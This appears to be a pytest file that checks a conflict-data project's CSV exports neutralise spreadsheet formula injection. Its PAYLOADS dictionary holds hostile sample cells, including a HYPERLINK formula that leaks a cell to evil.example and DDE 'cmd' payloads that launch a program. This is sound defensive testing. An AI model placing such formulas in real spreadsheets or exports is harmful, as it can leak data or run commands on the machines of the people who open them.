"""Spreadsheet formula injection (issue 15.5): in every CSV export, a cell that begins with `=`,
`+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's rule), one test per
character, while numbers, negative ones included, stay numbers. Page text reaches the ACLED
`source` and `notes` and the UCDP `source_article` columns, and Datasette's own CSV pages."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import msgspec
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from claimledger.cli import main
from claimledger.derived import write_derived
from claimledger.exports import spreadsheet_safe
from claimledger.model import (
    Analysis,
    Count,
    DateMention,
    Document,
    Event,
    Figure,
    PlaceCandidate,
    PlaceMention,
    Span,
)
from claimledger.read import read_paths
from claimledger.store import open_store
from claimledger.viewer.asgi import CsvCells

# One payload per character a spreadsheet reads as the start of a formula.
PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "carriage-return": "\r=1+2",
}
GOMA = PlaceCandidate(name="Goma", feature="city", country_code="CD",
                      country="Democratic Republic of the Congo", admin1="North Kivu",
                      latitude=-1.67409, longitude=29.22845)


def hostile_analysis(document: Document, payload: str) -> Analysis:
    """A read page given the payload as outlet and title, and one event with a figure."""
    document = msgspec.structs.replace(document, outlet=payload, title=payload)
    text = document.text
    start = text.index("At least")
    figure = Figure(id=f"{document.id}-f", span=Span(start, start + 11, text[start:start + 11]),
                    count=Count(low=12, high=12), measure="killed", source_name=payload)
    where = text.index("Goma")
    mention = PlaceMention(span=Span(where, where + 4, "Goma"), name="Goma",
                           candidates=(GOMA,), resolved=GOMA)
    day = DateMention(span=Span(start, start + 2, text[start:start + 2]), value="2024-03-09")
    event = Event(id=f"{document.id}-e", document_id=document.id,
                  trigger=Span(start, start + 2, text[start:start + 2]),
                  event_type="Violence against civilians", date=day, place=mention,
                  figure_ids=(figure.id,))
    return Analysis(document=document, figures=(figure,), dates=(day,), places=(mention,),
                    events=(event,), version="test", model="test")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One page per payload, read from a JSONL file, stored with its cluster and ledgers."""
    folder = tmp_path_factory.mktemp("hostile-csv")
    pages = folder / "pages.jsonl"
    with pages.open("w", encoding="utf-8") as out:
        for name in PAYLOADS:
            out.write(json.dumps({
                "url": f"https://news.example/{name}", "published": "2024-03-10",
                "text": f"At least 12 people were killed near Goma, page {name} said.",
            }) + "\n")
    documents = [d for d in read_paths([pages]) if isinstance(d, Document)]
    analyses = [hostile_analysis(d, payload)
                for d, payload in zip(documents, PAYLOADS.values(), strict=True)]
    db = folder / "hostile.db"
    with open_store(db) as store:
        store.write_analyses(analyses)
        write_derived(store, [a.events[0] for a in analyses], [])
    return db


def export_rows(db: Path, fmt: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(main, ["export", "--db", str(db), "--format", fmt])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout, newline="")))


@pytest.mark.parametrize("name", PAYLOADS)
def test_acled_source_and_notes_never_start_a_formula(hostile_db: Path, name: str) -> None:
    payload = PAYLOADS[name]
    rows = [r for r in export_rows(hostile_db, "csv-acled") if r["source"] == "'" + payload]
    assert len(rows) == 1, f"no row whose source is the neutralised {name} payload"
    assert rows[0]["notes"].startswith("'" + payload)
    assert rows[0]["fatalities"] == "12"


@pytest.mark.parametrize("name", PAYLOADS)
def test_ucdp_source_article_never_starts_a_formula(hostile_db: Path, name: str) -> None:
    payload = PAYLOADS[name]
    articles = [r["source_article"] for r in export_rows(hostile_db, "csv-ucdp")]
    assert sum(a.startswith("'" + payload) for a in articles) == 1
    assert not any(a.startswith(tuple("=+-@\t\r")) for a in articles)


def test_negative_numbers_in_numeric_columns_stay_numbers(hostile_db: Path) -> None:
    rows = export_rows(hostile_db, "csv-acled")
    assert {r["latitude"] for r in rows} == {"-1.67409"}
    assert {r["longitude"] for r in rows} == {"29.22845"}
    assert all(not any(cell.startswith(tuple("=+@\t\r")) for cell in r.values()) for r in rows)


@pytest.mark.parametrize("name", PAYLOADS)
def test_spreadsheet_safe_prefixes_each_formula_start(name: str) -> None:
    assert spreadsheet_safe(PAYLOADS[name]) == "'" + PAYLOADS[name]


@pytest.mark.parametrize("cell", ["-12", "-1.67409", "+3", "-2e5", "42", "", "Goma", "'=x"])
def test_spreadsheet_safe_leaves_numbers_and_plain_text_alone(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell


CELLS = st.text(alphabet=st.sampled_from(list('ab,"\n\r\t=+-@1. ')), max_size=12)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(CELLS, min_size=1, max_size=4), min_size=1, max_size=6),
       st.lists(st.integers(1, 40), max_size=8))
def test_csv_streamed_in_any_chunks_is_rewritten_as_whole(
    rows: list[list[str]], cuts: list[int]
) -> None:
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows(rows)
    data = text.getvalue().encode("utf-8")
    cells = CsvCells()
    out, position = b"", 0
    for size in cuts:
        out += cells.feed(data[position:position + size])
        position += size
    out += cells.feed(data[position:], final=True)
    read = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    assert read == [[spreadsheet_safe(cell) for cell in row] for row in rows]
